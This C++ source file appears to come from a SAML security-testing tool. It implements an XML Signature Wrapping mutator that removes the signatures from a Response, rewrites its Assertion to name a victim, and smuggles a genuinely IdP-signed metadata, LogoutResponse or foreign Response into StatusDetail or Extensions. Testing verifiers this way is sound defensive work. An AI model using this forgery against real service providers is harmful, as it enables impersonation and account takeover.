// SPDX-License-Identifier: Apache-2.0
// xsw.foreign_object_carried — a valid IdP signature over some other object (CVE-2024-6800,
// GitHub Enterprise Server with signed federation metadata; node-saml GHSA-5p8w-2mvw-38pv;
// ruby-saml CVE-2016-5697; XSW-FOREIGN): the Response and its Assertion lose their signatures and
// claim the victim, and an object the IdP really signed rides along in StatusDetail or Extensions.
// A verifier that accepts "a valid signature somewhere in the message" accepts it. saml-core
// §5.4.1: a signature counts only for the element it envelopes.
#include "mutators/xsw/xsw.hpp"
#include "samlt/core/random.hpp"
#include "samlt/core/saml_names.hpp"
#include "samlt/core/saml_time.hpp"
#include "samlt/core/xmldsig.hpp"

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

// The IdP's signed metadata (Entra publishes it) or a signed LogoutResponse, in a document of its
// own, signed with the app's key: what the attacker collects without an account of the victim's.
core::Result<core::XmlDoc> foreign_object(const Target& target, const std::string& kind, const std::string& issuer) {
  core::XmlDoc doc = kind == "response_other_sp" ? target.doc->clone() : core::XmlDoc::create();
  xmlNode* signed_element = nullptr;
  if (kind == "metadata") {
    xmlNode* root = core::make_root(doc, n::ns_metadata, "", "EntityDescriptor");
    core::set_attribute(root, "ID", core::new_saml_id());
    core::set_attribute(root, "entityID", issuer);
    xmlNode* idp = core::append_element(root, n::ns_metadata, "", "IDPSSODescriptor");
    core::set_attribute(idp, "protocolSupportEnumeration", n::ns_protocol);
    xmlNode* sso = core::append_element(idp, n::ns_metadata, "", "SingleSignOnService");
    core::set_attribute(sso, "Binding", n::binding_redirect);
    core::set_attribute(sso, "Location", "https://login.microsoftonline.com/" + std::string(target.tenant_id) + "/saml2");
    signed_element = root;
  } else if (kind == "logout_response") {
    xmlNode* root = core::make_root(doc, n::ns_protocol, "samlp", "LogoutResponse");
    core::set_attribute(root, "ID", core::new_saml_id());
    core::set_attribute(root, "Version", "2.0");
    core::set_attribute(root, "IssueInstant", core::format_datetime(target.t0));
    core::set_attribute(root, "InResponseTo", core::new_saml_id());
    core::append_element(root, n::ns_assertion, "", "Issuer", issuer);
    xmlNode* status = core::append_element(root, n::ns_protocol, "samlp", "Status");
    core::set_attribute(core::append_element(status, n::ns_protocol, "samlp", "StatusCode"), "Value", n::status_success);
    signed_element = root;
  } else {  // a Response the IdP issued to another SP for the attacker, its Assertion signed
    for (xmlNode* signature : core::descendants_named(doc.root(), n::ns_dsig, "Signature")) {
      core::remove_node(signature);
    }
    xsw::rename_ids(doc.root(), xsw::Ids::fresh, std::nullopt);
    core::set_attribute(doc.root(), "Destination", "https://other-sp.example/saml/acs");
    for (xmlNode* data : core::descendants_named(doc.root(), n::ns_assertion, "SubjectConfirmationData")) {
      core::set_attribute(data, "Recipient", "https://other-sp.example/saml/acs");
    }
    for (xmlNode* audience : core::descendants_named(doc.root(), n::ns_assertion, "Audience")) {
      core::set_text(audience, "https://other-sp.example/");
    }
    signed_element = core::child_named(doc.root(), n::ns_assertion, "Assertion");
    if (signed_element == nullptr) {
      return core::fail(core::Reason::mutator_not_applicable, "the Response carries no Assertion");
    }
  }
  if (auto signature = core::sign_enveloped(doc, signed_element, target.spec.signer, target.spec.sign_options);
      !signature) {
    return core::fail(signature.error());
  }
  return doc;
}

}  // namespace

// Params: object (metadata | logout_response | response_other_sp), place (status_detail |
// extensions), victim.
core::Result<void> xsw_foreign_object_carried(Target& target) {
  auto kind = xsw::choice_param(target, "object", "metadata|logout_response|response_other_sp", "metadata");
  auto place = kind ? xsw::choice_param(target, "place", "status_detail|extensions", "status_detail") : kind;
  auto victim = xsw::victim(target);
  if (!place || !victim) {
    return core::fail(!place ? place.error() : victim.error());
  }
  xmlNode* response = xsw::response(target);
  xmlNode* issuer = response ? core::child_named(response, n::ns_assertion, "Issuer") : nullptr;
  if (issuer == nullptr || xsw::first_assertion(target) == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "needs a Response with an Issuer and an Assertion");
  }
  auto foreign = foreign_object(target, *kind, core::simple_text(issuer).value_or(""));
  if (!foreign) {
    return core::fail(foreign.error());
  }
  for (xmlNode* signature : core::descendants_named(response, n::ns_dsig, "Signature")) {
    core::remove_node(signature);
  }
  xsw::write_victim(xsw::first_assertion(target), *victim);
  // The copy keeps the signed bytes: exclusive c14n does not depend on where the subtree sits.
  xmlNode* carried = xmlDocCopyNode(foreign->root(), target.doc->get(), 1);
  return xsw::hide(xsw::first_assertion(target), carried, *place, {});
}

}  // namespace samlt::idp::mutators
